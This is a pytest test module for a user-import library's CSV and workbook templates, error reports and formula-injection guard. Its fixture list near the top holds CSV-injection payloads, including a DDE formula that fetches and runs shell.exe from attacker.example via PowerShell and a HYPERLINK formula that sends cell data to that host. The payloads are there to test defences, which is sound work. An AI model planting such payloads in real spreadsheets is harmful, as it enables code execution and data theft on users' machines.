"""The template, the error report and the formula-injection guard."""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Sequence

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from userimport import (
    Action,
    Actor,
    Issue,
    IssueCode,
    MemoryStore,
    Organization,
    OrgTree,
    Preview,
    ReviewRow,
    Summary,
    UserImportError,
    UserRow,
    _workbook,
    commit,
    converter,
    error_report,
    prepare,
    template,
)
from userimport.formulas import MARKER, protect_cell, unprotect_cell
from userimport.outputs import (
    ERRORS_COLUMN,
    TEMPLATE_HEADERS,
    TEMPLATE_LANGUAGES,
    list_separator,
)
from userimport.reading import read_upload
from userimport.schema import COLUMNS, EXAMPLE_ROWS, column_for_header
from userimport.strategies import (
    SAMPLE_ADMIN,
    SAMPLE_MANAGER,
    SAMPLE_ORGS,
    defective_csv_files,
    user_rows,
    valid_uploads,
)

# The characters that make a spreadsheet run a cell as a formula (OWASP "CSV
# Injection"), written out independently of the module under test.
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

#: Naughty-strings style payloads: formulas, Dynamic Data Exchange, full-width forms,
#: formulas behind spaces and no-break spaces, quotes, apostrophes, line breaks.
NAUGHTY = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1,"Error: click")',
    "+1+1",
    "-2+3",
    "@",
    "=",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n",
    "  =1+1",
    "\u00a0=1+1",
    " \u00a0 @x",
    "\u3000=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'",
    "''",
    "'=1+1",
    "''=1+1",
    "' =1",
    "'\t",
    "'quoted'",
    "O'Brien",
    '"=1+1"',
    '""',
    "a\nb",
    "a,b;c|d\te",
    "",
    " ",
)

NAUGHTY_TEXT = st.one_of(
    st.sampled_from(NAUGHTY),
    st.text(),
    st.builds(
        lambda head, tail: head + tail,
        st.text(st.sampled_from("' \u00a0\t=+-@\uff1d"), max_size=4),
        st.text(max_size=8),
    ),
)


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could run ``cell``: after any whitespace other than
    tab, CR and LF, the first character is a trigger."""
    index = 0
    while index < len(cell) and cell[index].isspace() and cell[index] not in "\t\r\n":
        index += 1
    return index < len(cell) and cell[index] in TRIGGERS


#: The delimiters an upload may have, each the list separator of some spreadsheets
#: (TAB: "Unicode text" exports; "|": some database exports).
DELIMITERS = (",", ";", "\t", "|")

#: The list separator of each template language without a region, written out
#: independently of the module under test.
SEPARATORS = {"en": ",", "es": ";"}


def cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """The records of a file the library wrote (UTF-8 with BOM, CRLF)."""
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    return list(reader)


def reread(data: bytes) -> list[tuple[int, dict[str, str]]]:
    """The rows of a file as an upload reads them, marks undone (the re-upload).

    This is what ``prepare`` stores in ``ReviewRow.values`` once it calls
    ``unprotect_cell`` on every value cell it reads.
    """
    upload = read_upload(data)
    assert upload.ok, upload.issues
    return [
        (r.row, {c: unprotect_cell(v) for c, v in r.values.items()})
        for r in upload.records
    ]


def rows_of(preview: Preview) -> list[tuple[int | None, dict[str, str]]]:
    """The row numbers and raw values of a preview."""
    return [(row.row, dict(row.values)) for row in preview.rows]


# --- the formula-injection guard ----------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2", "'-2"),
        ("+34 600 000 000", "'+34 600 000 000"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("  =1", "'  =1"),
        ("\u00a0\u00a0@x", "'\u00a0\u00a0@x"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff20x", "'\uff20x"),
        ("'=1", "''=1"),
        ("'' -1", "''' -1"),
        ("Ana", "Ana"),
        ("a=b", "a=b"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("' x", "' x"),
        ("", ""),
    ],
)
def test_protect_cell_marks_exactly_the_cells_that_need_it(
    value: str, written: str
) -> None:
    """A trigger, maybe after spaces or apostrophes, gets one apostrophe in front;
    anything else is written as it is."""
    assert written == protect_cell(value)
    assert value == unprotect_cell(written)


@given(NAUGHTY_TEXT)
def test_protected_cells_never_run_as_formulas(value: str) -> None:
    """No protected cell starts with a trigger, even after spaces."""
    assert not runs_as_formula(protect_cell(value))


@given(NAUGHTY_TEXT)
def test_unprotect_undoes_protect(value: str) -> None:
    """``unprotect_cell`` gives back every value ``protect_cell`` wrote."""
    assert value == unprotect_cell(protect_cell(value))


@given(NAUGHTY_TEXT)
def test_reading_leaves_cells_without_a_marked_trigger_alone(value: str) -> None:
    """An ordinary upload reads unchanged: only an apostrophe before what would be a
    formula is taken for the library's marker."""
    marked = value.startswith(MARKER) and runs_as_formula(value.lstrip(MARKER))
    assert (value if not marked else value[1:]) == unprotect_cell(value)


# --- the template --------------------------------------------------------------------


@pytest.mark.parametrize("language", TEMPLATE_LANGUAGES)
def test_template_headers_map_back_to_their_columns(language: str) -> None:
    """Every localised header is read back as its canonical column, in order."""
    header = cells(template(language), SEPARATORS[language])[0]
    assert list(TEMPLATE_HEADERS[language].values()) == header
    assert list(COLUMNS) == [column_for_header(cell) for cell in header]


@pytest.mark.parametrize("language", TEMPLATE_LANGUAGES)
def test_template_is_utf8_with_bom_and_crlf(language: str) -> None:
    """The template opens in Excel with its accents: BOM, CRLF, no bare LF."""
    data = template(language)
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert text.count("\n") == text.count("\r\n")


def test_template_holds_the_example_rows_unless_asked_not_to() -> None:
    """The example rows follow the header, in column order; ``examples=False``
    gives the header alone."""
    expected = [[row[column] for column in COLUMNS] for row in EXAMPLE_ROWS]
    assert expected == cells(template())[1:]
    assert [list(TEMPLATE_HEADERS["es"].values())] == cells(
        template("es", examples=False), ";"
    )


@pytest.mark.parametrize(
    ("tag", "language"),
    [("ES", "es"), ("es-ES", "es"), ("es-MX", "es"), ("en_GB", "en"), ("en-ZA", "en")],
)
def test_template_accepts_language_tags(tag: str, language: str) -> None:
    """Case and a region leave the headers as the language's: ``es-MX`` gets the
    Spanish headers."""
    separator = list_separator(tag)
    assert (
        cells(template(language), SEPARATORS[language])[0]
        == (cells(template(tag), separator)[0])
    )


@pytest.mark.parametrize(
    ("tag", "separator"),
    [
        ("en", ","),
        ("EN-us", ","),
        ("en-GB", ","),
        ("en-ZA", ";"),
        ("en_DE", ";"),
        ("es", ";"),
        ("es-ES", ";"),
        ("es_AR", ";"),
        ("es-CO", ";"),
        ("es-MX", ","),
        ("es-US", ","),
        ("es-419", ","),
        ("es-Latn-MX", ","),
    ],
)
def test_template_is_written_with_the_list_separator_of_its_locale(
    tag: str, separator: str
) -> None:
    """The template's delimiter is the list separator of a spreadsheet in that
    locale: ``;`` where the decimal separator is a comma, ``,`` where it is a point,
    so a double-clicked template opens in columns."""
    first_line = template(tag).decode("utf-8-sig").split("\r\n", 1)[0]
    headers = TEMPLATE_HEADERS[tag[:2].lower()].values()
    assert separator.join(f'"{header}"' for header in headers) == first_line
    assert separator == list_separator(tag)


@pytest.mark.parametrize("delimiter", DELIMITERS)
@pytest.mark.parametrize("language", TEMPLATE_LANGUAGES)
def test_template_with_any_delimiter_prepares_as_its_example_rows(
    language: str, delimiter: str
) -> None:
    """A template written with any delimiter an upload may have reads back, as
    downloaded, as its example rows (skipped with ``example_row``), with that
    delimiter detected."""
    data = template(language, delimiter=delimiter)
    preview = prepare(data, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    expected = [{column: row[column] for column in COLUMNS} for row in EXAMPLE_ROWS]
    assert delimiter == preview.delimiter
    assert expected == [dict(row.values) for row in preview.rows]
    assert [IssueCode.EXAMPLE_ROW] * len(EXAMPLE_ROWS) == [
        issue.code for issue in preview.issues
    ]


@pytest.mark.parametrize("delimiter", ["", ";;", '"', "\n", "\r", "\0"], ids=repr)
def test_template_refuses_a_delimiter_no_file_can_have(delimiter: str) -> None:
    """A delimiter is one character, not a quote, a line break or NUL: the rule of
    reading, with its message."""
    with pytest.raises(ValueError, match=r"^delimiter ") as read:
        read_upload(b"a,b\r\n", delimiter=delimiter)
    with pytest.raises(ValueError, match=r"^delimiter ") as caught:
        template("en", delimiter=delimiter)
    assert str(read.value) == str(caught.value)


@pytest.mark.parametrize("language", TEMPLATE_LANGUAGES)
def test_template_has_no_sep_line(language: str) -> None:
    """No ``sep=`` line: with one, Excel is reported to ignore the byte-order mark;
    the header is the first line."""
    text = template(language).decode("utf-8-sig")
    assert text.startswith('"')


def test_template_refuses_an_unknown_language() -> None:
    """An unsupported language is misuse, and the message names the supported ones."""
    with pytest.raises(ValueError, match="'en', 'es'"):
        template("fr")


def test_template_as_downloaded_imports_nothing() -> None:
    """Uploading the template untouched skips its example rows with ``example_row``."""
    preview = prepare(
        template("es"), actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore()
    )
    assert preview.ok
    assert len(EXAMPLE_ROWS) == preview.summary.skip == preview.summary.total
    assert {IssueCode.EXAMPLE_ROW} == {issue.code for issue in preview.issues}


def fill(
    data: bytes, delimiter: str, users: Sequence[UserRow], keep_examples: bool
) -> bytes:
    """The template as a user fills it with ``csv.writer``, saved as UTF-8 with the
    template's delimiter."""
    records = cells(data, delimiter)
    if not keep_examples:
        records = records[:1]
    for user in users:
        records.append(
            [
                user.first_name,
                user.last_name,
                user.email,
                user.organization,
                user.role.value,
                "; ".join(user.groups),
                user.language or "",
            ]
        )
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(records)
    return buffer.getvalue().encode("utf-8")


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(TEMPLATE_LANGUAGES),
    st.booleans(),
    st.lists(
        user_rows(SAMPLE_ORGS, within="es", max_role="manager"),
        min_size=1,
        max_size=5,
        unique_by=lambda user: user.key,
    ),
)
def test_filled_template_prepares_clean(
    language: str, keep_examples: bool, users: list[UserRow]
) -> None:
    """A template filled in with valid users imports them; example rows left in are
    skipped with ``example_row``, and nothing else is reported."""
    data = fill(template(language), SEPARATORS[language], users, keep_examples)
    preview = prepare(data, actor=SAMPLE_MANAGER, orgs=SAMPLE_ORGS, store=MemoryStore())
    examples = len(EXAMPLE_ROWS) if keep_examples else 0
    assert preview.ok
    assert users == [row.user for row in preview.rows[examples:]]
    assert [IssueCode.EXAMPLE_ROW] * examples == [i.code for i in preview.issues]


# --- the error report ----------------------------------------------------------------

UPLOAD = (
    "sep=;\r\n"
    "Nombre;Apellidos;Correo;Notes\r\n"
    "=cmd|' /C calc'!A0;García;ana@example.org;x\r\n"
    "\r\n"
    "Bo;Li;bo@example.org;\r\n"
    "'Quoted';Li;not-an-email;\r\n"
    "Ana;García;ana.garcia@example.com;\r\n"
).encode()


def test_error_report_lists_every_row_where_it_was_with_its_problems() -> None:
    """Each row keeps its spreadsheet row number, its values and, in ``errors``, its
    problems in plain words; valid rows have an empty ``errors`` cell."""
    preview = prepare(UPLOAD, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    records = cells(error_report(preview), ";")
    assert [*TEMPLATE_HEADERS["en"].values(), ERRORS_COLUMN] == records[0]
    assert [] == records[1] == records[3]  # the header was row 2, row 4 was blank
    assert ["'=cmd|' /C calc'!A0", "García", "ana@example.org"] == records[2][:3]
    assert records[2][-1].startswith("The first name starts with '='")
    assert ["Bo", "Li", "bo@example.org", "", "", "", "", ""] == records[4]
    assert "'Quoted'" == records[5][0]
    assert records[5][-1].startswith("Correct this email address")
    assert records[6][-1].startswith("Warning: This is the template's example row")
    assert 7 == len(records)


def test_error_report_puts_errors_before_warnings() -> None:
    """Errors come first, then warnings marked ``Warning:``, one sentence each."""
    row = ReviewRow(
        row=2,
        values={"first_name": "Ana"},
        user=None,
        action=Action.INVALID,
        issues=(
            Issue.warning(IssueCode.HOST_CHECK, "Check the spelling", row=2),
            Issue.error(IssueCode.MISSING_VALUE, "The email is required.", row=2),
            Issue.error(IssueCode.HOST_CHECK, "Is this right?", row=2),
        ),
    )
    preview = Preview((row,), row.issues, Summary.of([row]), "utf-8", ",")
    errors = cells(error_report(preview))[1][-1]
    expected = "The email is required. Is this right? Warning: Check the spelling."
    assert expected == errors


def test_error_report_of_an_unreadable_file_holds_the_file_problems() -> None:
    """A file-level error leaves no rows: the report's only row has empty values and
    every file-level message, warnings included."""
    data = b"Nombre,Apellidos,Emial\r\nAna,Ruiz,a@example.org\r\n"
    preview = prepare(data, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    assert {IssueCode.MISSING_COLUMNS, IssueCode.UNKNOWN_COLUMNS} == {
        issue.code for issue in preview.issues
    }
    records = cells(error_report(preview))
    assert 2 == len(records)
    assert [""] * len(COLUMNS) == records[1][:-1]
    assert "The required column “email” is missing" in records[1][-1]
    assert (
        'Warning: The column is not used and will be ignored: "Emial".'
        in records[1][-1]
    )


def test_error_report_does_not_repeat_file_warnings_of_a_readable_file() -> None:
    """Unknown columns and a guessed encoding are gone from a report, which is UTF-8
    with known columns only, so their warnings are not written."""
    # "Nuñez" is a close call between cp1252 and cp1250, which warns.
    data = "first_name;last_name;email;Notes\r\nJan;Nuñez;jan@example.org;x\r\n"
    preview = prepare(
        data.encode("cp1252"), actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore()
    )
    assert {IssueCode.UNKNOWN_COLUMNS, IssueCode.ENCODING_GUESSED} == {
        issue.code for issue in preview.issues
    }
    records = cells(error_report(preview), ";")
    assert 2 == len(records)
    assert "" == records[1][-1]


def test_error_report_writes_single_user_rows_in_order() -> None:
    """Rows without a row number (``validate_user`` reviews) follow one another."""
    rows = tuple(
        ReviewRow(None, {"first_name": name}, None, Action.INVALID) for name in "AB"
    )
    preview = Preview(rows, (), Summary.of(rows), None, None)
    assert ["A", "B"] == [record[0] for record in cells(error_report(preview))[1:]]


def test_error_report_of_a_preview_through_json_is_the_same() -> None:
    """A preview kept as JSON between review and Done gives the same report."""
    preview = prepare(UPLOAD, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    again = converter.loads(converter.dumps(preview), Preview)
    assert error_report(preview) == error_report(again)


def test_error_report_reads_back_with_only_the_errors_column_unknown() -> None:
    """The report's headers are recognised again; ``errors`` is the one extra column."""
    preview = prepare(UPLOAD, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    upload = read_upload(error_report(preview))
    assert [*COLUMNS, None] == [match.column for match in upload.columns]
    assert ERRORS_COLUMN == upload.columns[-1].header
    assert [] == [i for i in upload.issues if i.code is IssueCode.UNKNOWN_COLUMNS]


@given(
    st.lists(
        st.tuples(
            st.fixed_dictionaries(dict.fromkeys(COLUMNS, NAUGHTY_TEXT)), NAUGHTY_TEXT
        ),
        max_size=4,
    ),
    st.lists(NAUGHTY_TEXT, max_size=2),
)
def test_no_cell_of_a_report_runs_as_a_formula(
    rows: list[tuple[dict[str, str], str]], file_messages: list[str]
) -> None:
    """Values, messages and headers: no cell the library writes starts with a
    trigger, whatever the preview holds."""
    review = tuple(
        ReviewRow(
            row=None,
            values=values,
            user=None,
            action=Action.INVALID,
            issues=(Issue.error(IssueCode.HOST_CHECK, message),),
        )
        for values, message in rows
    )
    file_issues = tuple(
        Issue.error(IssueCode.MALFORMED_CSV, message) for message in file_messages
    )
    preview = Preview(review, file_issues, Summary.of(review), None, None)
    report = cells(error_report(preview))
    assert not [cell for record in report for cell in record if runs_as_formula(cell)]
    # A NUL (which no upload can carry) is written as U+FFFD; all else comes back.
    values = [
        [row.values[c].replace("\0", "\ufffd") for c in COLUMNS] for row in review
    ]
    written = [record[: len(COLUMNS)] for record in report[1 + bool(file_issues) :]]
    assert values == [[unprotect_cell(cell) for cell in record] for record in written]


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        defective_csv_files().map(lambda file: file[0]),
        valid_uploads().map(lambda u: u.data),
    )
)
def test_error_report_reads_back_as_the_values_uploaded(data: bytes) -> None:
    """Re-uploading a report gives every row back, at its row number, with exactly
    the values first uploaded; no cell of it runs as a formula."""
    preview = prepare(data, actor=SAMPLE_MANAGER, orgs=SAMPLE_ORGS, store=MemoryStore())
    if not preview.rows:
        return  # an unreadable file: its report is checked above
    report = error_report(preview)
    assert rows_of(preview) == reread(report)
    assert preview.delimiter == read_upload(report).delimiter
    written = cells(report, preview.delimiter or ",")
    assert not [c for record in written for c in record if runs_as_formula(c)]


def test_reuploading_an_error_report_through_prepare_gives_the_same_values() -> None:
    """``prepare`` on a report gives the rows and values of the first upload."""
    preview = prepare(UPLOAD, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    again = prepare(
        error_report(preview), actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore()
    )
    assert rows_of(preview) == rows_of(again)


#: An upload's records, to be written with each delimiter: a formula, a blank row,
#: a marker-like apostrophe, and cells holding every delimiter and a line break.
RECORDS = (
    ("Nombre", "Apellidos", "Correo", "Organización", "Notes"),
    ("=cmd|' /C calc'!A0", "García", "ana@example.org", "", "x"),
    (),
    ("Bo", "Li", "bo@example.org", "Spain", ""),
    ("'Quoted'", "Li", "not-an-email", "", ""),
    ("Cy", "Line\nbreak", "cy@example.org", "a, b; c | d\te", ""),
    ("Ana", "García", "ana.garcia@example.com", "", ""),
)


def written(records: Sequence[Sequence[str]], delimiter: str) -> bytes:
    """``records`` as a spreadsheet saves them with ``delimiter``, in UTF-8."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(records)
    return buffer.getvalue().encode("utf-8")


def first_line(data: bytes) -> str:
    return data.decode("utf-8-sig").split("\r\n", 1)[0]


@pytest.mark.parametrize("delimiter", DELIMITERS, ids=repr)
def test_error_report_has_the_uploads_delimiter_and_reads_back(
    delimiter: str,
) -> None:
    """The report is written with the delimiter of the upload it reports on, so it
    opens as the upload did; ``prepare`` on it detects that delimiter and gives
    back every row at its row number with the values first uploaded."""
    preview = prepare(
        written(RECORDS, delimiter),
        actor=SAMPLE_ADMIN,
        orgs=SAMPLE_ORGS,
        store=MemoryStore(),
    )
    assert delimiter == preview.delimiter
    report = error_report(preview)
    headers = [*TEMPLATE_HEADERS["en"].values(), ERRORS_COLUMN]
    assert delimiter.join(f'"{header}"' for header in headers) == first_line(report)
    again = prepare(report, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=MemoryStore())
    assert delimiter == again.delimiter
    assert rows_of(preview) == rows_of(again)
    assert 5 == len(again.rows)


def test_error_report_of_a_file_that_could_not_be_parsed_is_comma_separated() -> None:
    """A file read no further than its bytes (here a ZIP archive) has no delimiter:
    its report is comma-separated."""
    preview = prepare(
        b"PK\x03\x04" + bytes(60),
        actor=SAMPLE_ADMIN,
        orgs=SAMPLE_ORGS,
        store=MemoryStore(),
    )
    assert preview.delimiter is None
    assert IssueCode.BINARY_FILE in {issue.code for issue in preview.issues}
    assert first_line(error_report(preview)).startswith('"First name","Last name",')


@pytest.mark.parametrize("delimiter", ['"', "\n", ";;", ""], ids=repr)
def test_error_report_of_a_preview_naming_an_impossible_delimiter(
    delimiter: str,
) -> None:
    """A preview kept by a client may name a delimiter no file can have: the report
    is then comma-separated rather than refused."""
    values = dict.fromkeys(COLUMNS, "") | {"first_name": "Ana"}
    review = (ReviewRow(row=2, values=values, user=None, action=Action.INVALID),)
    preview = Preview(review, (), Summary.of(review), "utf-8", delimiter)
    assert ["Ana"] == [record[0] for record in cells(error_report(preview))[1:]]


def test_error_report_of_a_result_has_the_uploads_delimiter() -> None:
    """The report of a commit's result, the rows left out, is written with the
    upload's delimiter too."""
    store = MemoryStore()
    preview = prepare(
        written(RECORDS, "\t"), actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=store
    )
    result = commit(
        preview, actor=SAMPLE_ADMIN, orgs=SAMPLE_ORGS, store=store, skip_invalid=True
    )
    assert [2, 5, 6] == [row.row for row in result.left_out]
    report = error_report(result)
    assert first_line(report).startswith('"First name"\t"Last name"\t')
    assert [(row.row, dict(row.values)) for row in result.left_out] == reread(report)


def test_a_nul_in_a_kept_preview_is_written_as_a_replacement_character() -> None:
    """A tampered preview holding NUL still gives a report (NUL shown as U+FFFD)."""
    values = dict.fromkeys(COLUMNS, "") | {"first_name": "A\0B"}
    review = (ReviewRow(row=2, values=values, user=None, action=Action.INVALID),)
    preview = Preview(review, (), Summary.of(review), None, None)
    assert "A\ufffdB" == cells(error_report(preview))[1][0]


# --- the workbook template -----------------------------------------------------------


def workbook_template(language: str = "en", **options: object) -> openpyxl.Workbook:
    data = template(
        language,
        format="xlsx",
        orgs=SAMPLE_ORGS,
        actor=SAMPLE_MANAGER,
        **options,  # type: ignore[arg-type]
    )
    return openpyxl.load_workbook(io.BytesIO(data))


def drop_downs(book: openpyxl.Workbook, sheet: str) -> dict[str, list[str]]:
    """What each data column's drop-down list offers, by the column's letter."""
    offered: dict[str, list[str]] = {}
    for rule in book[sheet].data_validations.dataValidation:
        source = rule.formula1 or ""
        if source.startswith('"'):
            values = source.strip('"').split(",")
        else:
            lists, cells = source.split("!")
            column = cells.split(":")[0].strip("$").rstrip("0123456789$")
            values = [
                str(cell.value)
                for cell in book[lists.strip("'")][column]
                if cell.value is not None
            ]
        offered[str(rule.sqref).split(":")[0].rstrip("0123456789")] = values
    return offered


@pytest.mark.parametrize(
    ("language", "sheet", "lists"),
    [("en", "Users", "Lists"), ("es", "Usuarios", "Listas")],
)
def test_workbook_template_layout(language: str, sheet: str, lists: str) -> None:
    """The workbook template has the headers of its language on a frozen, bold first
    row of its data sheet, and a hidden sheet of lists."""
    book = workbook_template(language)
    data = book[sheet]

    assert [sheet, lists] == book.sheetnames
    assert "hidden" == book[lists].sheet_state
    assert list(TEMPLATE_HEADERS[language].values()) == [c.value for c in data[1]]
    assert "A2" == data.freeze_panes
    assert all(cell.font.b for cell in data[1])


def test_workbook_template_offers_only_what_the_actor_may_use() -> None:
    """The drop-down lists offer the roles the actor may give, the organizations of
    its subtree by their paths from its own (none outside it), and the languages."""
    offered = drop_downs(workbook_template(), "Users")
    inside = SAMPLE_ORGS.subtree_ids(SAMPLE_MANAGER.org_id)

    assert ["learner", "instructor", "manager"] == offered["E"]
    assert [
        SAMPLE_ORGS.path_text(org.id, within="es")
        for org in SAMPLE_ORGS
        if org.id in inside
    ] == offered["D"]
    assert offered["D"][0] == "Spain"
    resolved = {SAMPLE_ORGS.resolve(path, within="es") for path in offered["D"]}
    assert inside == {org.id for org in resolved if org is not None}
    assert not [path for path in offered["D"] if "Acme" in path]
    assert {"en", "es", "pt", "zh"} <= set(offered["G"])


def test_workbook_template_as_downloaded_imports_nothing() -> None:
    """Uploading the workbook template untouched skips its example rows."""
    data = template("es", format="xlsx", orgs=SAMPLE_ORGS, actor=SAMPLE_MANAGER)
    preview = prepare(data, actor=SAMPLE_MANAGER, orgs=SAMPLE_ORGS, store=MemoryStore())

    assert ("xlsx", True) == (preview.format, preview.ok)
    assert [IssueCode.EXAMPLE_ROW] * len(EXAMPLE_ROWS) == [
        i.code for i in preview.issues
    ]


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(TEMPLATE_LANGUAGES),
    st.lists(
        user_rows(SAMPLE_ORGS, within="es", max_role="manager"),
        min_size=1,
        max_size=5,
        unique_by=lambda user: user.key,
    ),
)
def test_filled_workbook_template_imports_exactly_its_users(
    language: str, users: list[UserRow]
) -> None:
    """Valid users typed into the workbook template (and saved, here by openpyxl)
    import as exactly those users."""
    book = workbook_template(language, examples=False)
    sheet = book.worksheets[0]
    for number, user in enumerate(users, start=2):
        values = [
            user.first_name,
            user.last_name,
            user.email,
            user.organization or "",
            user.role.value,
            "; ".join(user.groups),
            user.language or "",
        ]
        for column, value in enumerate(values, start=1):
            sheet.cell(number, column, value).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)

    preview = prepare(
        buffer.getvalue(), actor=SAMPLE_MANAGER, orgs=SAMPLE_ORGS, store=MemoryStore()
    )

    assert preview.ok, preview.issues
    assert users == [row.user for row in preview.rows]


@pytest.mark.parametrize(
    ("options", "problem"),
    [
        ({"format": "xlsx"}, "needs orgs and actor"),
        ({"format": "xlsx", "orgs": SAMPLE_ORGS}, "needs orgs and actor"),
        (
            {
                "format": "xlsx",
                "orgs": SAMPLE_ORGS,
                "actor": SAMPLE_ADMIN,
                "delimiter": ";",
            },
            "delimiter",
        ),
        ({"format": "ods"}, "format is 'csv' or 'xlsx'"),
    ],
)
def test_workbook_template_misuse(options: dict[str, object], problem: str) -> None:
    """A workbook template without the tree and the actor, with a delimiter, or an
    unknown format is misuse."""
    with pytest.raises(ValueError, match=problem):
        template("en", **options)  # type: ignore[arg-type]


def test_workbook_template_for_an_actor_outside_the_tree() -> None:
    """An actor whose organization is not in the tree is misuse."""
    with pytest.raises(UserImportError):
        template(format="xlsx", orgs=SAMPLE_ORGS, actor=Actor("nowhere"))


def test_workbook_template_without_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the xlsx extra the workbook template says what to install."""
    monkeypatch.setattr(_workbook, "available", lambda: False)

    with pytest.raises(ModuleNotFoundError, match=r"userimport\[xlsx\]"):
        template(format="xlsx", orgs=SAMPLE_ORGS, actor=SAMPLE_ADMIN)


def test_workbook_template_lists_names_with_commas_and_quotes_on_its_sheet() -> None:
    """Organization paths with a comma or a double quote, which a list inside the
    rule cannot hold, are offered from the hidden sheet, exactly as named."""
    tree = OrgTree(
        [
            Organization("acme", "Acme"),
            Organization("q", 'The "Q" team', "acme"),
            Organization("c", "Sales, North", "acme"),
        ]
    )
    data = template(format="xlsx", orgs=tree, actor=Actor("acme"))

    offered = drop_downs(openpyxl.load_workbook(io.BytesIO(data)), "Users")

    assert ["Acme", 'Acme / The "Q" team', "Acme / Sales, North"] == offered["D"]
